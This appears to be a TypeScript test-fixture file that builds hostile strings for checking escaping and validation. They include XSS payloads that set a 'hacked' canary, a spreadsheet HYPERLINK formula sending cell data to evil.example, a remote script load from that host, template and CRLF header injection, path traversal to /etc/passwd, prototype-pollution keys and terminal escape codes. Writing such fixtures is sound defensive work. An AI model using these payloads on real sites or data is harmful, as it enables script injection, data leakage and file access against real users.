/** What a script of an attack would leave behind on a page. */
export const canary = 'hacked';

/** Beginnings that a spreadsheet takes for a formula. Which one a text gets depends on the text. */
const formulas = ['=', '+', '-', '@', '=cmd|'].map((sign) => `${sign}hyperlink("https://evil.example/?"&a1;"x")`);

const attack = [
  `"><img src=//evil.example/x.png onerror=${canary}=1>`,
  `'><svg onload=${canary}=1><style>*{display:none}</style>`,
  `<script>${canary}=1</script></title></script></style></textarea></svg>`,
  `<script src=https://evil.example/x.js></script><base href=https://evil.example/>`,
  '<!-- ]]> <![cdata[ ?> &lt;b&gt; &amp;amp; &#x3c;i&#x3e; &nbsp',
  `javascript:${canary}=1 data:text/html,x vbscript:x`,
  '{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% x %} <Fragment set:html="x" />',
  '\r\nBcc: everyone@evil.example\r\n\r\n%0d%0aSet-Cookie: a=b',
  '../../../../escape ..\\..\\escape %2e%2e%2fescape /etc/passwd',
  '__proto__ constructor prototype',
  `\`'"\\ \\" \\u003cscript\\u003e $& $1 $$ \u2028 \u{1f600}`,
].join(' ');

/** A text with every attack in it. The same text always becomes the same, so that what names it finds it. */
export function hostileText(text: string): string {
  const sum = [...text].reduce((total, letter) => total + (letter.codePointAt(0) ?? 0), 0);
  return `${formulas[sum % formulas.length] ?? ''} ${attack} ${text}`;
}

/** A choice of at most 60 characters that ends the attribute or the cell that it is in if nothing escapes it. */
export function hostileLabel(label: string): string {
  return `="><script>${canary}=1</script>{{7*7}}' ${label}`;
}

/** An address that the rules accept, and that ends the attribute that it is in if nothing escapes it. */
export function hostileAddress(address: string): string {
  return `${address}?"><script>${canary}=1</script>&a='onerror=${canary}=1&javascript:${canary}=1#<img/src=x>`;
}

/** An email address that is valid and ends attributes, too. */
export const hostileEmail = "o'neil+bcc@anytown.example";

/** Markdown that is legal and shows the attack as text. */
export const hostileMarkdown = [
  `\`<script>${canary}=1</script> {{7*7}} \${7*7}\` and &lt;script&gt;${canary}=1&lt;/script&gt; and &#123;7*7&#125;`,
  `[a link](https://anytown.example/?"><script>${canary}=1</script> "title&quot; onclick=${canary}=1")`,
  `\`\`\`html\n<img src=//evil.example/x.png onerror=${canary}=1>\n\`\`\``,
].join('\n\n');

/** Values for an id that could lead out of a folder or into an object's prototype. */
export const hostileIds = [
  '../../../escape',
  '..',
  '.',
  '/etc/passwd',
  'a/b',
  String.raw`..\escape`,
  '%2e%2e%2fescape',
  '__proto__',
  'hasOwnProperty',
  'a\u0000b',
  'con.',
  '<script>',
  'javascript:x',
  ' ',
  '',
];

/** Values for a text that no page could show, or that would steer the terminal of whoever builds. */
export const unprintableTexts = [
  'Ring\u0007',
  'Red \u001b[31m',
  'Nothing\u0000',
  'Half \ud83d',
  'Next\u0085line',
  'None \uffff',
];
